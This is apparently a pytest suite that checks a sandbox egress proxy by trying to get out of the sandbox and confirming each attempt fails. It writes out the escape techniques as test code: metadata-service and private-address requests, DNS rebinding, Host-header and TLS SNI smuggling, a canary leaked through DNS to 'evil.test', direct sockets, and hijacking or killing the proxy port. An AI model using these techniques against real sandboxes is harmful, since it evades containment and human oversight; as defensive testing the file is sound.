# SPDX-License-Identifier: Apache-2.0
"""Getting out, past the door or through it, to where no rule leads.

The door is pinfold-egress, on the host; here the whole of it is attacked from within a sandbox, with a small Internet
behind it (tests/egress/world.py). What each test names can be switched off in the proxy of the test build.

Not taken off alone, and why:
  one lookup for one connection   there is no second lookup that a switch could bring back: what was judged is what is dialled.
                                  The rebinding that is left is a name with another answer the next time
  one request for one connection  what a client sends is read and written anew, and each request has a connection of its own to
  to a server                     the server, so a request within a request is at most bytes of its body (tests/egress)
  init's port                     init listens before there is any command; see the end
"""
import os
import shutil
import socket
import sys

import pytest

from escape import TOP

sys.path.append(os.path.join(TOP, "tests/egress"))
import internet    # noqa: E402
import world       # noqa: E402
from world import EXAMPLE, METADATA, PRIVATE    # noqa: E402

PYTHON = shutil.which("python3", path="/usr/bin:/bin")
pytestmark = [pytest.mark.skipif(os.geteuid() != 0, reason="needs root, for a network namespace of its own"),
              pytest.mark.skipif(not PYTHON, reason="no python3 in /usr, which is what the host image shows"),
              pytest.mark.skipif(not shutil.which("ip"), reason="ip is not installed")]

ASK = """
import socket, sys
print("tried", flush=True)
for words in sys.argv[1:]:
    s = socket.create_connection(("127.0.0.1", 3128), 30)
    s.sendall(words.encode("latin-1").decode("unicode-escape").encode("latin-1"))
    while True:
        try: data = s.recv(65536)
        except ConnectionResetError: break
        if not data: break
        sys.stdout.write(data.decode("latin-1"))
"""


@pytest.fixture(scope="module", autouse=True)
def _world(tmp_path_factory):
    with internet.network(), internet.resolv_conf(tmp_path_factory.mktemp("etc")):
        yield


@pytest.fixture
def names():
    resolver = world.Resolver({"example.org": [EXAMPLE], "other.test": [EXAMPLE], "private.test": [PRIVATE],
                               "metadata.test": [METADATA], "rebinding.test": [[EXAMPLE], [METADATA]]})
    yield resolver
    resolver.close()


@pytest.fixture
def serve():
    made = []

    def start(handler, address=EXAMPLE, port=80):
        made.append(world.Server(handler, address, port))
        return made[-1]

    yield start
    for server in made:
        server.close()


@pytest.fixture
def ask(prove, anyone):
    """ask([what is sent on a connection, ...], [rule, ...], [defence, ...], worked=...)"""

    def go(words, rules, defences, **how):
        options = [word for rule in rules for word in ("--allow", rule)]
        prove(anyone, None, defences, run=lambda program: program.run(
            "--quiet", *options, "--", PYTHON, "-c", ASK, *words), **how)

    return go


def get(url, host):
    return f"GET {url} HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n"


def secret_page(serve, canary, address, port=80):
    return serve(world.says(world.ok(canary.encode())), address, port)


def shows(canary):
    return lambda done: canary in done.out


# --- where no rule leads ----------------------------------------------------------------------


@pytest.mark.parametrize("url", ["http://other.test/", f"http://{PRIVATE}/"])
def test_what_no_rule_names(ask, names, serve, canary, url):    # pylint: disable=unused-argument
    for address in (EXAMPLE, PRIVATE):
        secret_page(serve, canary, address)
    ask([get(url, url[7:-1])], ["example.org:80"], ["egress_rules"], worked=shows(canary))


def test_a_name_that_is_the_message(ask, names, canary):
    """A query for a name is a message to whoever owns the domain: what is refused is never asked."""
    asked = []

    def reset():
        names.asked.clear()

    def worked(done):    # pylint: disable=unused-argument
        asked[:] = [name for name, *_ in names.asked]
        return f"{canary}.evil.test" in asked

    ask([get(f"http://{canary}.evil.test/", f"{canary}.evil.test")], ["example.org:80"], ["egress_rules"], worked=worked, reset=reset)


def test_the_metadata_service(ask, serve, canary):
    secret_page(serve, canary, METADATA)
    ask([get(f"http://{METADATA}/", METADATA)], ["0.0.0.0/0:80"], ["egress_never"], worked=shows(canary))


def test_the_metadata_service_by_a_name(ask, names, serve, canary):    # pylint: disable=unused-argument
    secret_page(serve, canary, METADATA)
    ask([get("http://metadata.test/", "metadata.test")], ["*:80"], ["egress_never", "egress_special"], worked=shows(canary))


def test_a_private_address_by_a_name(ask, names, serve, canary):    # pylint: disable=unused-argument
    secret_page(serve, canary, PRIVATE)
    ask([get("http://private.test/", "private.test")], ["*:80"], ["egress_special"], worked=shows(canary))


def test_rebinding(ask, names, serve, canary):
    """The name leads to its owner's server when it is first asked for, and then to the metadata service."""
    secret_page(serve, "harmless", EXAMPLE)
    secret_page(serve, canary, METADATA)
    request = get("http://rebinding.test/", "rebinding.test")
    ask([request] * 3, ["rebinding.test:80"], ["egress_never", "egress_special"], worked=shows(canary), reset=names.turn.clear)


# --- another site behind an allowed name --------------------------------------------------------


def sites(canary):
    """A front server that has many sites at one address."""

    def handler(conn):
        head, _ = world.read_request(conn)
        if head is not None:
            conn.sendall(world.ok(canary.encode() if "host: other.test" in head.lower() else b"example"))

    return handler


def test_another_host_in_the_head(ask, names, serve, canary):    # pylint: disable=unused-argument
    serve(sites(canary))
    ask([get("http://example.org/", "other.test")], ["example.org:80"], ["egress_host", "egress_anew"], worked=shows(canary))


def test_another_name_in_the_hello(ask, names, serve, canary):    # pylint: disable=unused-argument
    hello = world.hello("other.test")

    def front(conn):
        data = b""
        while b"other.test" not in data and (piece := conn.recv(65536)):
            data += piece
        if data:
            conn.sendall(canary.encode())

    serve(front, port=443)
    words = "CONNECT example.org:443 HTTP/1.1\\r\\nHost: example.org:443\\r\\n\\r\\n" + "".join(f"\\x{b:02x}" for b in hello)
    ask([words], ["example.org:443"], ["egress_tls"], worked=shows(canary))


def test_what_is_no_tls(ask, names, serve, canary):    # pylint: disable=unused-argument
    serve(sites(canary), port=443)
    words = ("CONNECT example.org:443 HTTP/1.1\\r\\nHost: example.org:443\\r\\n\\r\\n" + get("/", "other.test"))
    ask([words], ["example.org:443"], ["egress_tls"], worked=shows(canary))


# --- past the door ------------------------------------------------------------------------------

DIRECT = """
import socket, sys
print("tried", flush=True)
family, kind = (getattr(socket, word) for word in sys.argv[1:3])
try:
    s = socket.socket(family, kind)
    s.settimeout(5)
    s.connect((sys.argv[3], int(sys.argv[4])))
    s.sendall(sys.argv[5].encode())
except OSError as e:
    print(e)
"""


@pytest.mark.parametrize("kind", ["SOCK_STREAM", "SOCK_DGRAM"])
def test_without_asking(anyone, prove, canary, kind):
    got = []
    with socket.socket(socket.AF_INET, getattr(socket, kind)) as server:
        server.bind((EXAMPLE, 8080))
        server.settimeout(0)
        if kind == "SOCK_STREAM":
            server.listen(8)

        def run(program):
            done = program.run("--quiet", "--allow", f"{EXAMPLE}:8080", "--", PYTHON, "-c", DIRECT, "AF_INET", kind, EXAMPLE, "8080",
                               canary)
            got.clear()
            try:    # who sent has ended: it is there, or it never comes
                if kind == "SOCK_STREAM":
                    with server.accept()[0] as conn:
                        conn.settimeout(5)
                        got.append(conn.recv(4096))
                else:
                    got.append(server.recv(4096))
            except BlockingIOError:
                pass
            return done

        prove(anyone, None, ["netns"], run=run, worked=lambda done: canary.encode() in got)


def test_asking_a_resolver_oneself(anyone, names, canary):
    """No switch: the sandbox's resolv.conf names nobody, and nobody answers on its loopback."""
    done = anyone.run("--quiet", "--allow", "*:443", "--", PYTHON, "-c", f"""
import socket
print("tried", open("/etc/resolv.conf").read().count("nameserver"))
for server in ("127.0.0.53", "127.0.0.1", "{EXAMPLE}"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.2)
    try:
        s.connect((server, 53))
        s.send(b"\\x01\\x02\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x06canary\\4test\\0\\0\\x01\\0\\x01")
        s.recv(512)
        print("ESCAPED", server)
    except OSError as e:
        print(server, e)
try:
    print("ESCAPED", socket.getaddrinfo("{canary}.test", 443))
except OSError as e:
    print(e)
""")
    assert "tried" in done.out and "ESCAPED" not in done.out, repr(done)
    assert names.asked == []


# --- the port itself ----------------------------------------------------------------------------


def test_taking_the_port(anyone, session):
    """The next command would talk to an impostor. Init listens before the first, for as long as the sandbox lives."""
    steal = PYTHON + """ -c '
import socket
for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::"), (socket.AF_INET6, "::ffff:127.0.0.1")):
    for options in ((), (socket.SO_REUSEADDR,), (socket.SO_REUSEADDR, socket.SO_REUSEPORT)):
        s = socket.socket(family)
        for o in options: s.setsockopt(socket.SOL_SOCKET, o, 1)
        try:
            s.bind((address, 3128))
            s.listen()
            print("ESCAPED", address, options)
        except OSError as e:
            print("refused", e.errno)
'"""
    for cause, code, out in session(anyone, steal, steal):
        assert (cause, code) == ("exited", 0) and out == "refused 98\n" * 12, out


def test_closing_the_port(anyone, session):
    """Neither signals nor a storm of connections end it: the next command is answered."""
    storm = PYTHON + """ -c '
import os, socket, signal
try: os.kill(1, 9)
except OSError: pass
for i in range(600):
    s = socket.socket(); s.setblocking(False)
    try: s.connect(("127.0.0.1", 3128))
    except BlockingIOError: pass
    if i % 3: s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\\1\\0\\0\\0\\0\\0\\0\\0")
    s.close()
'; echo done"""
    look = PYTHON + """ -c '
import socket
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(b"GET http://example.org/ HTTP/1.1\\r\\nHost: example.org\\r\\n\\r\\n")
print(s.recv(12).decode())
'"""
    runs = session(anyone, storm, look)
    assert [r[:2] for r in runs] == [("exited", 0)] * 2 and runs[0][2] == "done\n" and "HTTP/1.1 403" in runs[1][2], runs
